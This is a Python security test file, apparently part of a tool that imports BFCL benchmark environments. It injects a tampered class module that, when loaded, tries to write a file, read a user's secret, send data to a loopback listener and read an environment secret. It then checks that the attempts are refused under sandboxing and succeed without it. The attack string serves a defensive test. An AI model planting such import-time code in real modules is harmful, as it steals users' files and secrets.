"""`import bfcl` executes BFCL's classes (to compute initial states and the ground truth's results) confined, as
servers run environment code: a tampered class module that writes a file, reads one of the user's, connects to
a listener on the host's loopback and reads the importer's environment achieves none of it, by effect.

The same attacks with the layers off (`isolation=False`) do reach all four, so the test can tell."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from envscaler_mcp.interop.bfcl import envmodule
from envscaler_mcp.interop.bfcl.ground_truth import Request, execute_all
from envscaler_mcp.interop.bfcl.importer import import_bfcl
from envscaler_mcp.interop.bfcl.source import SOURCE_DIR, BfclSource
from envscaler_mcp.interop.bfcl.tools import tool_spec
from tests.security.conftest import Listener

FIXTURE = Path(__file__).resolve().parents[1] / "fixtures" / "bfcl"

ATTACK = '''

import os as _os
import socket as _socket


def _attempt(action):
    try:
        return repr(action())[:200]
    except BaseException as exc:
        return "refused: " + type(exc).__name__


_SEEN = {{
    "write": _attempt(lambda: open({target!r}, "w").write("pwned")),
    "read": _attempt(lambda: open({secret!r}).read()),
    "connect": _attempt(lambda: _socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"leaked")),
    "environ": _attempt(lambda: _os.environ.get("BFCL_IMPORT_SECRET")),
}}
_load = TwitterAPI._load_scenario


def _load_and_report(self, scenario, long_context=False):
    _load(self, scenario, long_context)
    self.username = json.dumps(_SEEN)


TwitterAPI._load_scenario = _load_and_report
'''


def tampered_fixture(tmp_path: Path, listener: Listener) -> tuple[Path, Path, Path]:
    """A copy of the fixture whose TwitterAPI module attacks when loaded and reports in the state's username."""
    root = tmp_path / "bfcl"
    shutil.copytree(FIXTURE, root)
    target, secret = tmp_path / "pwned.txt", tmp_path / "secret.txt"
    secret.write_text("the user's secret")
    module = root / SOURCE_DIR / "posting_api.py"
    module.write_text("import json\n" + module.read_text() + ATTACK.format(
        target=str(target), secret=str(secret), port=listener.port))
    return root, target, secret


def test_tampered_bfcl_code_reaches_nothing_at_import(tmp_path: Path, listener: Listener,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("BFCL_IMPORT_SECRET", "from the importer's environment")
    root, target, _ = tampered_fixture(tmp_path, listener)
    result = import_bfcl(root, tmp_path / "home", ["base"])
    scenario = json.loads((tmp_path / "home" / "scenarios" / "bfcl_gorillafilesystem_twitterapi.jsonl")
                          .read_text().splitlines()[0])
    seen = json.loads(scenario["initial_state"]["TwitterAPI"]["username"])
    assert seen["write"].startswith("refused") and not target.exists()
    assert seen["read"].startswith("refused") and "secret" not in json.dumps(scenario)
    assert seen["connect"].startswith("refused") and listener.connections == 0 and not listener.received
    assert seen["environ"] == "None"
    assert result.counts  # the attacks did not stop the import


def test_the_same_attacks_succeed_without_the_layers(tmp_path: Path, listener: Listener,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("BFCL_IMPORT_SECRET", "from the importer's environment")
    root, target, _ = tampered_fixture(tmp_path, listener)
    source = BfclSource(root)
    classes = ["GorillaFileSystem", "TwitterAPI"]
    text = envmodule.build_module(source, classes, {c: [tool_spec(d, "query") for d in source.func_docs(c)]
                                                    for c in classes})
    task = next(t for t in source.tasks("base") if t["id"] == "multi_turn_base_0")
    (execution,) = execute_all(text, [Request(task=task, turns=[[] for _ in task["question"]], long_context=False)],
                               isolation=False)
    assert not isinstance(execution, str)
    seen = json.loads(execution.initial_state["TwitterAPI"]["username"])
    assert target.read_text() == "pwned" and seen["read"] == repr("the user's secret")
    assert listener.connections >= 1
    # the clean environment holds even without the layers: the importer's variables are not passed on
    assert seen["environ"] == "None"
